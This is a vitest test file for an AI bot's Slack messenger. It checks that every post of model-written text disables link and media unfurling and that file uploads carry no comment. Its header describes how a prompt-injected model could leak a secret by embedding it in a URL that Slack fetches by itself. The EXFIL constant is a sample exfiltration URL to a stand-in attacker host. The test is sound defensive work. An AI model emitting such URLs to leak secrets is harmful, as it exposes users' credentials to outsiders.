/**
 * No post of ours lets Slack unfurl: a prompt-injected model could put a secret into a URL, and
 * Slack's unfurler would fetch it by itself. Every path that posts model-written text — send_message,
 * a short message (command replies), a card, an answer page, a send_file caption — goes through
 * the fake Slack, and every chat.postMessage must say unfurl_links=false and unfurl_media=false;
 * no upload carries an initial_comment (which cannot turn unfurls off).
 */
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { SlackDirectory } from "../../../src/channels/slack/slack-directory.js";
import { SlackMessenger } from "../../../src/channels/slack/slack-messenger.js";
import type { Caller, ThreadTarget } from "../../../src/core/thread-target.js";
import { type FakeSlack, startFakeSlack } from "../../fakes/fake-slack/index.js";
import { clientsFor, ev, outputFor, silentLogger } from "./support.js";

const EXFIL = "https://attacker.example/pixel.png?leak=sk-live-SECRET";

let fake: FakeSlack;
let dir: string;
let from: ThreadTarget;

beforeEach(async () => {
  fake = await startFakeSlack();
  fake.state.addUser({ id: "U1", name: "ana" });
  fake.state.addChannel({ id: "D1", name: "dm", type: "im", members: ["U1"] });
  fake.state.addChannel({ id: "C1", name: "general", type: "channel", members: ["U1"] });
  from = { platform: "slack", workspace: fake.state.teamId, channel: "D1", thread: fake.state.nextTs() };
  dir = await mkdtemp(join(tmpdir(), "slack-unfurls-"));
});

afterEach(async () => {
  await fake.close();
  await rm(dir, { recursive: true, force: true });
});

function messenger(): SlackMessenger {
  const clients = clientsFor(fake);
  const directory = new SlackDirectory(clients.api, {
    workspace: fake.state.teamId,
    botUserId: fake.state.botUserId,
    botName: "coworker",
  });
  return new SlackMessenger({
    clients,
    directory: () => directory,
    botName: () => "coworker",
    logger: silentLogger,
  });
}

describe("unfurling", () => {
  it("is off on every post of model-written text, and no upload carries a comment", async () => {
    const sender: Caller = { sessionId: "s1", target: from, requester: { id: "U1", name: "ana" } };
    expect(await messenger().sendMessage(sender, "#general", `status: ${EXFIL}`)).toMatchObject({ ok: true });
    expect(await messenger().sendMessage(sender, "D1", `here: ${EXFIL}`)).toMatchObject({ ok: true });

    const { output } = outputFor(fake, from, { nativeStreaming: false });
    await output.postText(`see ${EXFIL}`);
    await output.postCard({
      pendingId: "p1",
      kind: "question",
      title: "Which one?",
      blocks: [{ kind: "text", text: `Pick one, details at ${EXFIL}` }],
      buttons: [{ action: "q0:o0", label: "A", style: "default" }],
    });
    const turn = output.beginTurn({ sessionId: "s1", turnId: "t1" });
    await turn.handle(ev.text(`see ${EXFIL}`));
    await turn.handle(ev.completed(`see ${EXFIL}`));
    await turn.close();

    const path = join(dir, "report.csv");
    await writeFile(path, "a,b\n");
    expect(await messenger().sendFile(from, { path, name: "report.csv" }, `From ${EXFIL}`)).toMatchObject({
      ok: true,
    });

    const posts = fake.state.callsOf("chat.postMessage").map((call) => call.args);
    // send_message ×2, the short message, the card, the answer page, the file's caption.
    expect(posts).toHaveLength(6);
    for (const args of posts) {
      expect(String(args.unfurl_links)).toBe("false");
      expect(String(args.unfurl_media)).toBe("false");
    }
    expect(posts.at(-1)?.text).toContain("attacker.example");
    const uploads = fake.state.callsOf("files.completeUploadExternal");
    expect(uploads).toHaveLength(1);
    expect(uploads[0]?.args.initial_comment).toBeUndefined();
  });
});
